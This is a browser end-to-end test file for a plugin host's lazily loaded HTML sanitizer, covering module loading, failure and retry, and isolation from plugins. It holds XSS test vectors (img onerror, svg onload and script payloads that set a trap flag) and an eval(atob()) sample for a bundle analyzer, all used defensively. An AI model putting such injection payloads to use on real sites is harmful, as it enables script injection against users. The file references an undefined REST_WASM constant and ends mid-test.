// The sanitizer module, loaded on first need (src/web/index.js `preload`), from the side of an
// attacker and of a careful host developer. The host origin's request log (scripts/serve.mjs)
// shows what the page fetched: a host that only mounts frames never downloads the sanitizer,
// `preload` fetches it once however often it is called, and the mounts that put HTML into the
// page load it themselves. Before it has loaded, the synchronous sanitizer calls throw
// MODULE_NOT_LOADED; they never hand back their input — checked on a host page served without
// any CSP (`?host-csp=none`), where unsanitized HTML would run its handlers: a trap
// (`window.__pwned`, set by the payloads' handlers) and a control that inserts a payload raw
// show that it would. A failed load rejects MODULE_NOT_LOADED and can be retried; a plugin has
// no way to choose which cleaner the host uses.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { startEnv, openHost, pluginFrame, hostCall, until } from './helpers.mjs';

const SANITIZER_JS = '/pkg/sanitizer/plugin_warden_sanitizer.js';
const SANITIZER_WASM = '/pkg/sanitizer/plugin_warden_sanitizer_bg.wasm';
// Each handler sets the trap (the image is a 404: its onerror fires); none may survive the sanitizer.
const PAYLOAD = '<img src="/lazy-missing.png" onerror="window.__pwned = (window.__pwned || 0) + 1"><b>kept</b>'
  + '<svg onload="window.__pwned = 9"></svg><script>window.__pwned = 7</script>';
const CLEAN = '<img src="/lazy-missing.png"><b>kept</b>';

let env;
before(async () => {
  env = await startEnv(19700);
});
after(() => env?.close());

/**
 * A fresh e2e host page (fresh module instances: nothing loaded), without a CSP unless `csp`;
 * what its page throws and nobody catches in `errors`.
 */
async function freshHost({ csp = false } = {}) {
  const from = env.servers.logs.host.length;
  const host = await openHost(env, csp ? 'scenario=none' : 'scenario=none&host-csp=none');
  // The page's own requests, from its navigation on (the tests run one at a time).
  host.requests = () => env.servers.logs.host.slice(from).map((r) => new URL(r.url, 'http://x').pathname);
  host.sanitizerRequests = () => host.requests().filter((p) => p.startsWith('/pkg/sanitizer/'));
  // What was thrown on the page and not caught.
  host.errors = [];
  host.page.on('pageerror', (e) => host.errors.push(`${e.name}: ${e.message}`));
  return host;
}

const count = (list, path) => list.filter((p) => p === path).length;

/**
 * A fresh e2e host page (a context of its own) whose wasm at `path` is the build's unsplit copy
 * `file` (target/split-*): the same glue runs it, and never calls its loader.
 */
async function unsplitHost(path, file) {
  const body = readFileSync(new URL(`../../${file}`, import.meta.url));
  const context = await env.browser.newContext();
  await context.route(`**${path}`, (route) => route.fulfill({ status: 200, contentType: 'application/wasm', body }));
  const { page } = await openHost(env, 'scenario=none&host-csp=none', { context });
  return { page, close: () => context.close() };
}

/**
 * Answer requests for `path` in `page` as `answers` says, in order ('404' or 'hang-up'), then
 * from the server; each answer is logged in `seen` (prefixed with `label`, if given).
 */
function scriptAnswers(page, path, answers, seen, label = '') {
  return page.route(`**${path}`, async (route) => {
    const answer = answers.shift() ?? 'server';
    seen.push(label ? `${label} ${answer}` : answer);
    if (answer === '404') await route.fulfill({ status: 404, contentType: 'text/plain', body: 'not found' });
    else if (answer === 'hang-up') await route.abort('connectionreset');
    else await route.continue();
  });
}

/**
 * Answer requests for `path` in `page` with a 404 until the function this answers is called,
 * then from the server; each answer is logged in `seen` ('404' or 'server'). For loads whose
 * number of tries varies (a host's background load, retries), where scriptAnswers' fixed list
 * would not fit.
 */
async function failUntil(page, path, seen) {
  let failing = true;
  await page.route(`**${path}`, async (route) => {
    seen.push(failing ? '404' : 'server');
    if (failing) await route.fulfill({ status: 404, contentType: 'text/plain', body: 'not found' });
    else await route.continue();
  });
  return () => { failing = false; };
}

/** Log in `window.syncRequests` the URL of each synchronous XMLHttpRequest the page opens. */
function watchSyncRequests(page) {
  return page.evaluate(() => {
    window.syncRequests = [];
    const open = XMLHttpRequest.prototype.open;
    XMLHttpRequest.prototype.open = function (method, url, async) {
      if (async === false) window.syncRequests.push(String(url));
      return open.apply(this, arguments);
    };
  });
}

/** Install and mount the notes plugin (an iframe) in the page, until it is ready. */
async function mountNotes(page) {
  const mounted = await page.evaluate(async () => {
    await window.e2e.install(window.e2e.manifests.notes);
    return window.e2e.mountAndWait('notes', '/notes/');
  });
  assert.equal(mounted.ok, true, JSON.stringify(mounted));
}

test('a host that only mounts an iframe plugin never fetches the sanitizer; preload fetches it once, however often it is called', async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    await mountNotes(page);
    // The log works: the core module was fetched by this page.
    assert.equal(count(host.requests(), '/pkg/plugin_warden_bg.wasm'), 1, JSON.stringify(host.requests()));
    assert.deepEqual(host.sanitizerRequests(), [], 'an iframe-only host fetched the sanitizer');

    const r = await page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      const before = pkg.__sanitizerLoaded();
      // Three at once (host method and free function), then once more after they resolved.
      const all = await Promise.all([h.preload('sanitizer'), h.preload('sanitizer'), pkg.preload('sanitizer')]);
      await h.preload('sanitizer');
      await pkg.preload('sanitizer');
      return { before, all: all.map((v) => v === undefined), after: pkg.__sanitizerLoaded(), clean: h.sanitize('<b onclick="x()">ok</b>') };
    });
    assert.deepEqual(r, { before: false, all: [true, true, true], after: true, clean: '<b>ok</b>' });
    const fetched = host.sanitizerRequests();
    assert.equal(count(fetched, SANITIZER_JS), 1, JSON.stringify(fetched));
    assert.equal(count(fetched, SANITIZER_WASM), 1, JSON.stringify(fetched));
    assert.equal(fetched.length, 2, JSON.stringify(fetched));

    // A shadow mount after that loads nothing more.
    const shadow = await page.evaluate(async () => {
      await window.e2e.install({ id: 'panel', name: 'Panel', permissions: [] });
      window.e2e.mountWith('panel', { mode: 'shadow', html: '<p>hi</p>' });
      return window.e2e.settled('panel');
    });
    assert.equal(shadow.ok, true, JSON.stringify(shadow));
    assert.equal(host.sanitizerRequests().length, 2, JSON.stringify(host.sanitizerRequests()));
    // Loading the module under the host CSP (script-src 'self' 'nonce-…' 'wasm-unsafe-eval',
    // Trusted Types) violates nothing.
    assert.deepEqual(await host.hostViolations(), { fromConsole: [], fromDocument: [] });
    assert.deepEqual(host.seen.pageErrors, []);
  } finally {
    await host.close();
  }
});

test('before preload: sanitize, host.sanitize and host.trustedHTML throw MODULE_NOT_LOADED and insert nothing; after it they sanitize', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const before = await page.evaluate(async (payload) => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      const target = document.body.appendChild(document.createElement('div'));
      target.id = 'target';
      const out = {};
      for (const [name, f] of Object.entries({
        sanitize: () => { target.innerHTML = pkg.sanitize(payload); },
        hostSanitize: () => { target.innerHTML = h.sanitize(payload); },
        trustedHTML: () => { target.innerHTML = h.trustedHTML(payload); },
      })) {
        try {
          f();
          out[name] = { returned: target.innerHTML };
        } catch (e) {
          out[name] = { name: e.name, code: e.code, message: e.message };
        }
      }
      await new Promise((r) => setTimeout(r, 300));
      return { out, inserted: target.innerHTML, pwned: window.__pwned ?? null };
    }, PAYLOAD);
    for (const [name, r] of Object.entries(before.out)) {
      assert.equal(r.code, 'MODULE_NOT_LOADED', `${name}: ${JSON.stringify(r)}`);
      assert.equal(r.name, 'PluginWardenError', name);
      assert.match(r.message, /await host\.preload\('sanitizer'\)|preload\('sanitizer'\)/, `${name}: the message says what to do`);
    }
    assert.equal(before.inserted, '', 'something was inserted');
    assert.equal(before.pwned, null, 'a payload handler ran');
    assert.deepEqual(host.sanitizerRequests(), [], 'a synchronous call fetched the module');

    const after = await page.evaluate(async (payload) => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      await h.preload('sanitizer');
      const target = document.getElementById('target');
      const out = { sanitize: pkg.sanitize(payload), hostSanitize: h.sanitize(payload), trustedHTML: String(h.trustedHTML(payload)) };
      target.innerHTML = h.trustedHTML(payload);
      await new Promise((r) => setTimeout(r, 300));
      return { out, inserted: target.innerHTML, pwned: window.__pwned ?? null };
    }, PAYLOAD);
    assert.deepEqual(after.out, { sanitize: CLEAN, hostSanitize: CLEAN, trustedHTML: CLEAN });
    assert.equal(after.inserted, CLEAN);
    assert.equal(after.pwned, null, 'a payload handler ran after sanitizing');

    // Control: on this page (no CSP) the same payload, inserted raw, does run its handler.
    const control = await page.evaluate(async (payload) => {
      document.getElementById('target').innerHTML = payload;
      for (let i = 0; i < 50 && !window.__pwned; i++) await new Promise((r) => setTimeout(r, 100));
      return window.__pwned ?? null;
    }, PAYLOAD);
    assert.ok(control >= 1, 'the control payload did not run: the trap cannot catch anything');
  } finally {
    await host.close();
  }
});

/** Capture every shadow root the page attaches from now on (closed ones too) in window.__roots. */
const captureShadowRoots = (page) => page.evaluate(() => {
  window.__roots = [];
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function attachShadow(init) {
    const root = attach.call(this, init);
    window.__roots.push(root);
    return root;
  };
});

/**
 * Install worker plugin `id` with `body` (after `connect()`, as `sdk`; it ends by rendering
 * PAYLOAD), mount it with `ui: 'shadow'`, wait for its `rendered` event, and answer the mount's
 * outcome, its events, and what the page's shadow roots hold.
 */
async function renderFromWorker(page, id, body) {
  await captureShadowRoots(page);
  // The last render waits out the render budget when refused RATE_LIMITED, as a plugin should:
  // a render before it that took long (the sanitizer's second part failing to load, slowly on
  // a busy machine) spends the plugin's share of the page's time.
  const code = `const sdk = await pluginWarden.connect();
    ${body}
    for (let i = 0; ; i++) {
      try { await sdk.ui.render(${JSON.stringify(PAYLOAD)}); break; }
      catch (e) { if (e.code !== 'RATE_LIMITED' || i >= 80) throw e; await new Promise((r) => setTimeout(r, 100)); }
    }
    await sdk.events.emit('rendered', {});`;
  const r = await page.evaluate(async ([i, c]) => {
    const installed = await window.e2e.install({ id: i, name: i, permissions: ['ui:render', 'events'] }, { code: c });
    window.e2e.mountWorker(i, { ui: 'shadow' });
    return { installed, mounted: await window.e2e.settled(i) };
  }, [id, code]);
  assert.equal(r.installed.ok, true, JSON.stringify(r.installed));
  const events = await until(async () => {
    const e = await page.evaluate((i) => window.e2e.state.events.filter((x) => x.pluginId === i), id);
    return e.some((x) => x.name === 'rendered') ? e : null;
  }, 10_000);
  assert.ok(events, `${id} never rendered: ${JSON.stringify(r)}`);
  // Give a handler that survived the time to run.
  await new Promise((res) => setTimeout(res, 300));
  const seen = await page.evaluate(() => ({ roots: window.__roots.map((root) => root.innerHTML), pwned: window.__pwned ?? null }));
  return { mounted: r.mounted, events, html: seen.roots.join('\n'), pwned: seen.pwned };
}

test('a shadow mount with hostile html, before any preload, loads the sanitizer itself and puts sanitized HTML only', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    await captureShadowRoots(page);
    const r = await page.evaluate(async (payload) => {
      await window.e2e.install({ id: 'panel', name: 'Panel', permissions: [] });
      window.e2e.mountWith('panel', { mode: 'shadow', html: payload });
      const mounted = await window.e2e.settled('panel');
      await new Promise((res) => setTimeout(res, 300));
      return { mounted, roots: window.__roots.map((root) => ({ mode: root.mode, html: root.innerHTML })), pwned: window.__pwned ?? null };
    }, PAYLOAD);
    assert.deepEqual(r.mounted, { ok: true, value: { pluginId: 'panel', mode: 'shadow' } });
    assert.equal(r.roots.length, 1, JSON.stringify(r.roots));
    assert.equal(r.roots[0].mode, 'closed');
    assert.ok(r.roots[0].html.includes(CLEAN), `the shadow root holds ${JSON.stringify(r.roots[0].html)}`);
    assert.doesNotMatch(r.roots[0].html, /onerror|onload|<script|<svg|__pwned/i);
    assert.equal(r.pwned, null, 'a payload handler ran');
    const fetched = host.sanitizerRequests();
    assert.deepEqual([count(fetched, SANITIZER_JS), count(fetched, SANITIZER_WASM)], [1, 1], JSON.stringify(fetched));
  } finally {
    await host.close();
  }
});

test('a worker with ui: \'shadow\' rendering hostile HTML: the mount loads the sanitizer, both parts (a remote UI\'s policy is in the second), the shadow root gets sanitized HTML only', async () => {
  const host = await freshHost();
  try {
    const r = await renderFromWorker(host.page, 'rui', '');
    assert.deepEqual(r.mounted, { ok: true, value: { pluginId: 'rui', mode: 'worker' } });
    assert.ok(r.html.includes('<b>kept</b>'), `the rendered UI is not in a shadow root: ${r.html}`);
    assert.doesNotMatch(r.html, /onerror|onload|<script|<svg|__pwned/i);
    assert.equal(r.pwned, null, 'a payload handler ran');
    const fetched = host.sanitizerRequests();
    assert.deepEqual([count(fetched, SANITIZER_JS), count(fetched, SANITIZER_WASM), count(fetched, REST_WASM)], [1, 1, 1], JSON.stringify(fetched));
  } finally {
    await host.close();
  }
});

test('the sanitizer fails to load (its JS a 404, then its wasm a 404 and a hang-up): MODULE_NOT_LOADED naming the cause, sanitize still throws, a later preload succeeds', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    // What the server answers, per file, in order (then the real file); `seen` logs each answer.
    const answers = { js: ['404'], wasm: ['404', 'hang-up'] };
    const seen = [];
    for (const [kind, path] of [['js', SANITIZER_JS], ['wasm', SANITIZER_WASM]]) await scriptAnswers(page, path, answers[kind], seen, kind);
    const attempt = (withMount) => page.evaluate(async ([payload, withMount]) => {
      const h = window.e2e.host;
      const loaded = await h.preload('sanitizer').then(() => ({ ok: true }), (e) => ({ ok: false, name: e.name, code: e.code, message: e.message }));
      let sanitized;
      try {
        sanitized = { ok: true, value: h.sanitize(payload) };
      } catch (e) {
        sanitized = { ok: false, code: e.code };
      }
      let mounted = null;
      if (withMount) {
        // A shadow mount tries to load the module itself, and cannot go ahead without it.
        const id = `panel-${Math.random().toString(36).slice(2)}`;
        await window.e2e.install({ id, name: 'Panel', permissions: [] });
        window.e2e.mountWith(id, { mode: 'shadow', html: payload });
        mounted = await window.e2e.settled(id);
      }
      return { loaded, sanitized, mounted, pwned: window.__pwned ?? null };
    }, [PAYLOAD, withMount]);

    // The module's JS is a 404; then the mount's own attempt gets the JS and a 404 for the wasm.
    const first = await attempt(true);
    assert.equal(first.loaded.ok, false);
    assert.equal(first.loaded.code, 'MODULE_NOT_LOADED');
    assert.equal(first.loaded.name, 'PluginWardenError');
    assert.match(first.loaded.message, /could not load the sanitizer module: .*plugin_warden_sanitizer\.js/, 'the message names the file');
    assert.deepEqual(first.sanitized, { ok: false, code: 'MODULE_NOT_LOADED' }, 'sanitize answered after a failed load');
    assert.equal(first.mounted.ok, false);
    assert.equal(first.mounted.error.code, 'MODULE_NOT_LOADED');
    assert.match(first.mounted.error.message, /could not load the sanitizer module: .*404.*plugin_warden_sanitizer_bg\.wasm/, 'the message names the failure and the file');
    assert.deepEqual(seen, ['js 404', 'js server', 'wasm 404']);

    // The server hangs up on the wasm.
    const second = await attempt(false);
    assert.equal(second.loaded.code, 'MODULE_NOT_LOADED', JSON.stringify(second.loaded));
    assert.deepEqual(second.sanitized, { ok: false, code: 'MODULE_NOT_LOADED' });

    // It has recovered.
    const third = await attempt(false);
    assert.deepEqual(third.loaded, { ok: true });
    assert.deepEqual(third.sanitized, { ok: true, value: CLEAN });
    assert.deepEqual(seen, ['js 404', 'js server', 'wasm 404', 'wasm hang-up', 'wasm server']);
    // Nothing was inserted on the way: no handler ran, no element carries one.
    assert.equal(third.pwned, null);
    assert.equal(await page.evaluate(() => document.querySelectorAll('[onerror]').length), 0);
  } finally {
    await host.close();
  }
});

test('a plugin cannot choose the cleaner: a worker that tries to reach the host\'s module hooks still has its HTML sanitized', async () => {
  // __setSanitizerModule is an export of the host page's own module (pkg/index.js):
  // host page code is trusted (DESIGN §1) and may call it. A plugin runs in a sandboxed
  // worker (opaque origin, no network) and talks only through its port: it can neither
  // reach the host's module scope nor name a cleaner in a message.
  const host = await freshHost();
  try {
    const r = await renderFromWorker(host.page, 'sly', `const tried = {
        global: typeof self.__setSanitizerModule,
        importHost: await import(${JSON.stringify(`${env.servers.hostOrigin}/pkg/index.js`)})
          .then((m) => typeof m.__setSanitizerModule, (e) => 'refused'),
      };
      // Options the protocol does not have, naming a "cleaner" of its own.
      tried.call = await sdk.ui.render('<b>x</b>', { cleaner: 'identity', sanitize: false })
        .then(() => 'accepted', (e) => e.code);
      await sdk.events.emit('tried', tried);`);
    assert.equal(r.mounted.ok, true, JSON.stringify(r.mounted));
    const tried = r.events.find((e) => e.name === 'tried').data;
    assert.equal(tried.global, 'undefined');
    assert.equal(tried.importHost, 'refused', 'the worker imported the host\'s bindings');
    assert.ok(r.html.includes('<b>kept</b>'), r.html);
    assert.doesNotMatch(r.html, /onerror|onload|<script|<svg|__pwned/i);
    assert.equal(r.pwned, null);
  } finally {
    await host.close();
  }
});

test('preload(\'nope\') rejects INVALID_ARGUMENT; preload before init() rejects NOT_INITIALIZED; neither fetches anything', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const r = await page.evaluate(async () => {
      const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ name: e.name, code: e.code, message: e.message }));
      const pkg = await import('/pkg/index.js');
      return {
        nope: await settle(pkg.preload('nope')),
        hostNope: await settle(window.e2e.host.preload('Sanitizer')),
        number: await settle(pkg.preload(42)),
        proto: await settle(pkg.preload('__proto__')),
        // The types cannot refuse these (lib.dom's WebAssembly.Module is an empty interface).
        element: await settle(pkg.preload('sanitizer', document.body)),
        nullInput: await settle(window.e2e.host.preload('sanitizer', null)),
        numberInput: await settle(pkg.preload('sanitizer', 7)),
      };
    });
    for (const k of ['nope', 'hostNope', 'number', 'proto']) {
      assert.equal(r[k].code, 'INVALID_ARGUMENT', `${k}: ${JSON.stringify(r[k])}`);
      assert.match(r[k].message, /expected one of 'checks', 'sanitizer'/);
    }
    assert.match(r.nope.message, /found "nope"/);
    for (const k of ['element', 'nullInput', 'numberInput']) {
      assert.equal(r[k].code, 'INVALID_ARGUMENT', `${k}: ${JSON.stringify(r[k])}`);
      assert.match(r[k].message, /input must be the module's wasm/);
    }
    assert.match(r.element.message, /HTMLBodyElement/);
    assert.deepEqual(host.sanitizerRequests(), []);
  } finally {
    await host.close();
  }

  // A page that imports the package and never calls init().
  const context = await env.browser.newContext();
  try {
    const page = await context.newPage();
    const blank = `${env.servers.hostOrigin}/lazy-blank.html`;
    await page.route(blank, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>blank</title>' }));
    await page.goto(blank);
    const from = env.servers.logs.host.length;
    const r = await page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const uninit = await pkg.preload('sanitizer').then(() => ({ ok: true }), (e) => ({ name: e.name, code: e.code, message: e.message }));
      let sync;
      try {
        sync = { ok: true, value: pkg.sanitize('<b>x</b>') };
      } catch (e) {
        sync = { code: e.code };
      }
      return { uninit, sync };
    });
    assert.equal(r.uninit.code, 'NOT_INITIALIZED', JSON.stringify(r.uninit));
    assert.equal(r.uninit.name, 'PluginWardenError');
    assert.match(r.uninit.message, /preload\("sanitizer"\) was called before .*call `await init\(\)` first/);
    assert.deepEqual(r.sync, { code: 'NOT_INITIALIZED' });
    const fetched = env.servers.logs.host.slice(from).map((q) => q.url).filter((u) => u.includes('sanitizer/'));
    assert.deepEqual(fetched, []);
  } finally {
    await context.close();
  }
});

test('text reaches the sanitizer module intact: ASCII, multi-byte, astral and lone surrogates, short and long, through every entry', async () => {
  const host = await freshHost();
  try {
    await captureShadowRoots(host.page);
    const r = await host.page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      await h.preload('sanitizer');
      const ascii = 'plain text, nothing to escape. ';
      const texts = {
        empty: '',
        ascii,
        multiByte: 'é日本語ü',
        astral: '😀𝄞',
        loneHigh: 'a\ud800b',
        loneLow: '\udc00',
        reversedPair: '\ude00\ud83d',
        // Long text enters by TextEncoder.encodeInto: first into a buffer of one byte per
        // UTF-16 unit, again with three when that was too small (non-ASCII at the end).
        longAscii: ascii.repeat(200),
        longThenMultiByte: ascii.repeat(100) + '日本語'.repeat(300),
        longThenLone: ascii.repeat(100) + '\ud800'.repeat(50) + '😀',
      };
      const out = {};
      const { Cleaner } = await import('/pkg/sanitizer/plugin_warden_sanitizer.js');
      const direct = new Cleaner('{"config":{}}');
      for (const [k, t] of Object.entries(texts)) {
        const html = `<p>${t}</p><b>${t}</b><script>${t}</script>`;
        out[k] = {
          want: `<p>${t.toWellFormed()}</p><b>${t.toWellFormed()}</b>`,
          sanitize: pkg.sanitize(html),
          trusted: String(h.trustedHTML(html)),
          direct: direct.clean(html),
        };
      }
      let notAString;
      try {
        notAString = { returned: direct.clean(42) };
      } catch (e) {
        notAString = { message: String(e && e.message) };
      }
      // A shadow mount's HTML is cleaned from Rust (the core's own call into the module),
      // its result copied back into the core: long, non-ASCII, with a lone surrogate.
      const long = texts.longThenLone + texts.longThenMultiByte;
      await window.e2e.install({ id: 'texts', name: 'Texts', permissions: [] });
      window.e2e.mountWith('texts', { mode: 'shadow', html: `<p>${long}</p><script>x</script>` });
      const mounted = await window.e2e.settled('texts');
      const shadow = { mounted, want: `<p>${long.toWellFormed()}</p>`, roots: window.__roots.map((root) => root.innerHTML) };
      return { out, notAString, shadow };
    });
    for (const [k, v] of Object.entries(r.out)) {
      assert.equal(v.sanitize, v.want, `${k}: sanitize`);
      assert.equal(v.trusted, v.want, `${k}: trustedHTML`);
      assert.equal(v.direct, v.want, `${k}: the module's Cleaner`);
    }
    assert.deepEqual(r.notAString, { message: 'expected a string of HTML' });
    assert.equal(r.shadow.mounted.ok, true, JSON.stringify(r.shadow.mounted));
    assert.equal(r.shadow.roots.length, 1);
    assert.ok(r.shadow.roots[0].endsWith(r.shadow.want), `the shadow root holds ${JSON.stringify(r.shadow.roots[0].slice(-200))}`);
  } finally {
    await host.close();
  }
});

// The plugin-side client (pkg/client/index.js) is imported by the entry only for the two mounts
// that need it: a srcdoc mount (its source is inlined into the document) and a shadow mount
// with a first-party `render`. A failed import fails that mount with a code; a later one retries.
test('the plugin-side client and the mounts apart (pkg/mounts.js): neither fetched to mount a src page; a srcdoc mount imports both (a 404 of either fails the mount MOUNT_FAILED naming the file, a later mount retries)', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const CLIENT = '/pkg/client/index.js';
    const MOUNTS = '/pkg/mounts.js';
    const srcdoc = (id) => page.evaluate(async (id) => {
      await window.e2e.install({ id, name: 'Inline', permissions: [] });
      window.e2e.mountWith(id, { srcdoc: '<!doctype html><p>inline</p><script>pluginWarden.connect()</script>' });
      return window.e2e.settled(id);
    }, id);

    const framed = await page.evaluate(async () => {
      await window.e2e.install({ id: 'framed', name: 'Framed', permissions: [] });
      window.e2e.mount('framed', '/hello/');
      return window.e2e.settled('framed');
    });
    assert.equal(framed.ok, true, JSON.stringify(framed));
    assert.equal(count(host.requests(), CLIENT), 0, `a src mount fetched the client: ${host.requests()}`);
    assert.equal(count(host.requests(), MOUNTS), 0, `a src mount fetched the mounts apart: ${host.requests()}`);

    const answers = { [MOUNTS]: ['404'], [CLIENT]: ['404'] };
    for (const path of [MOUNTS, CLIENT]) {
      await page.route(`**${path}`, async (route) => {
        if (answers[path].shift() === '404') await route.fulfill({ status: 404, contentType: 'text/plain', body: 'not found' });
        else await route.continue();
      });
    }
    const noMounts = await srcdoc('inline-0');
    assert.equal(noMounts.ok, false, JSON.stringify(noMounts));
    assert.equal(noMounts.error.code, 'MOUNT_FAILED', JSON.stringify(noMounts));
    assert.match(noMounts.error.message, /cannot load \.\/mounts\.js next to the entry module/);
    assert.equal(count(host.requests(), CLIENT), 0, 'the client was fetched without the mounts apart');

    const failed = await srcdoc('inline-1');
    assert.equal(failed.ok, false, JSON.stringify(failed));
    assert.equal(failed.error.code, 'MOUNT_FAILED', JSON.stringify(failed));
    assert.match(failed.error.message, /cannot load its plugin-side client \(\.\/client\/index\.js/);

    const second = await srcdoc('inline-2');
    assert.equal(second.ok, true, `a later srcdoc mount did not recover: ${JSON.stringify(second)}`);
    assert.equal(count(host.requests(), MOUNTS), 1, 'the mounts apart were fetched again once imported');
  } finally {
    await host.close();
  }
});

// The core module's second part (scripts/split-module.mjs): what a host's first visit does not run.
const CHECKS_WASM = '/pkg/plugin_warden_checks_bg.wasm';
const IDB_JS = '/pkg/idb.js';
const FETCH_JS = '/pkg/fetch.js';
const CRYPTO_JS = '/pkg/crypto.js';
const BAD_MANIFEST = { id: 'Bad Id', name: '', version: 'x', permissions: ['storag'] };

test('the core\'s second part: a first visit (install, iframe mount, the plugin\'s calls, the heartbeat) never fetches it; the first call that needs it loads it once, synchronously, under the page\'s CSP', async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    // The pings the host posts on its plugins' ports (the heartbeat), counted.
    await page.evaluate(() => {
      const post = MessagePort.prototype.postMessage;
      window.pings = 0;
      MessagePort.prototype.postMessage = function (data, ...rest) {
        if (data && data.event === 'ping') window.pings += 1;
        return post.call(this, data, ...rest);
      };
    });
    await mountNotes(page);
    // The notes plugin's first calls (storage, events) have been answered.
    // (Seen through the host's onAudit callback: `auditLog()`, an inspector's call, is not on a
    // first visit's path.)
    const audited = await until(() => page.evaluate(() => window.e2e.state.audits.some((e) => /storage\.get/.test(JSON.stringify(e)))));
    assert.ok(audited, 'the plugin\'s storage calls were not audited');
    // The heartbeat's first round (a tick every 3.75 s: the host pings, the plugin answers).
    assert.ok(await until(() => page.evaluate(() => window.pings > 0), 10_000), 'no ping within 10 s');
    const notesFrame = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await notesFrame.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } }, 'the plugin answers after the ping');
    await new Promise((resolve) => setTimeout(resolve, 500)); // its pong, read by the host
    assert.equal(count(host.requests(), '/pkg/plugin_warden_bg.wasm'), 1, JSON.stringify(host.requests()));
    assert.equal(count(host.requests(), CHECKS_WASM), 0, 'the first visit fetched the second part');

    const r = await page.evaluate(async (bad) => {
      const pkg = await import('/pkg/index.js');
      const before = pkg.__pw_checksLoaded();
      const report = pkg.validateManifest(bad); // diagnostics: not on a first visit's path
      const after = pkg.__pw_checksLoaded();
      await Promise.all([pkg.preload('checks'), window.e2e.host.preload('checks'), pkg.preload('checks')]);
      const findings = pkg.analyzeBundle('eval(atob("x"))', {}).findings.map((f) => f.rule);
      return { before, after, report, findings };
    }, BAD_MANIFEST);
    assert.equal(r.before, false);
    assert.equal(r.after, true);
    assert.equal(r.report.valid, false, JSON.stringify(r.report));
    assert.ok(r.report.problems.length >= 3, JSON.stringify(r.report));
    assert.ok(r.findings.length > 0, JSON.stringify(r.findings));
    assert.equal(count(host.requests(), CHECKS_WASM), 1, JSON.stringify(host.requests()));
    // The plugin mounted before the load still talks to the host, on both parts.
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const stored = await notes.evaluate(() => window.notes.run('storage.get', 'note'));
    assert.deepEqual(stored, { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    const refused = await notes.evaluate(() => window.notes.run('storage.set', '', 1)); // an error path
    assert.equal(refused.ok, false);
    assert.equal(typeof refused.error.code, 'string', JSON.stringify(refused));
    // The synchronous request is a `connect-src` fetch like init()'s: the page's CSP allows it.
    const { fromConsole, fromDocument } = await host.hostViolations();
    assert.deepEqual(fromConsole, []);
    assert.deepEqual(fromDocument, []);
  } finally {
    await host.close();
  }
});

test('the core\'s second part: a first visit on each store (the default, \'local\', \'session\', \'memory\'): creating the host, installing, mounting and the plugin\'s storage calls never fetch it; a host whose plugins\' storage needs it (\'indexeddb\', `encrypt`) fetches it asynchronously, from its creation, and its mount waits for it: never a synchronous request', async () => {
  for (const options of [{}, { storage: 'local' }, { storage: 'session' }, { storage: 'memory' }, { storage: 'indexeddb' }, { storage: 'local', encrypt: true }, { storage: 'indexeddb', encrypt: true }]) {
    const label = JSON.stringify(options);
    const host = await freshHost();
    try {
      const { page } = host;
      const kinds = [];
      page.on('request', (r) => { if (r.url().endsWith(CHECKS_WASM)) kinds.push(r.resourceType()); });
      await watchSyncRequests(page);
      const created = await page.evaluate(async (options) => {
        const pkg = await import('/pkg/index.js');
        window.e2e.create(options);
        const atCreate = pkg.__pw_checksLoaded();
        const installed = await window.e2e.install(window.e2e.manifests.notes);
        const mounted = (await window.e2e.mountAndWait('notes', '/notes/')).ok;
        return { atCreate, installed: installed.ok, mounted, atMount: pkg.__pw_checksLoaded() };
      }, options);
      const needs = options.storage === 'indexeddb' || options.encrypt === true;
      assert.deepEqual(created, { atCreate: false, installed: true, mounted: true, atMount: needs }, label);
      const notes = await pluginFrame(page, 'notes', { state: 'connected' });
      assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.set', 'k', [1, 'two'])), { ok: true, value: null }, label);
      assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.get', 'k')), { ok: true, value: [1, 'two'] }, label);
      assert.equal(await page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded()), needs, `${label}: the second part was${needs ? ' not' : ''} loaded`);
      assert.equal(count(host.requests(), CHECKS_WASM), needs ? 1 : 0, label);
      assert.deepEqual(kinds, needs ? ['fetch'] : [], label);
      assert.deepEqual(await page.evaluate(() => window.syncRequests), [], `${label}: a synchronous request`);
      assert.equal(count(host.requests(), IDB_JS), needs ? 1 : 0, label);
    } finally {
      await host.close();
    }
  }
});

test('an IndexedDB host while the core\'s second part cannot load: its mount rejects MODULE_NOT_LOADED, the host goes on (never stopped, never a synchronous request), and a mount once the part loads works, its storage too', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    await watchSyncRequests(page);
    const r = await page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      window.e2e.create({ storage: 'indexeddb' });
      const h = window.e2e.host;
      const settle = (p) => p.then((value) => ({ ok: true, value }), (e) => ({ ok: false, code: e.code, message: e.message }));
      const installed = await settle(h.install(window.e2e.manifests.notes));
      const mounted = await window.e2e.mountAndWait('notes', '/notes/');
      return { installed: installed.ok, mounted, frames: window.e2e.iframes('notes'), plugins: h.plugins(), loaded: pkg.__pw_checksLoaded(), sync: window.syncRequests };
    });
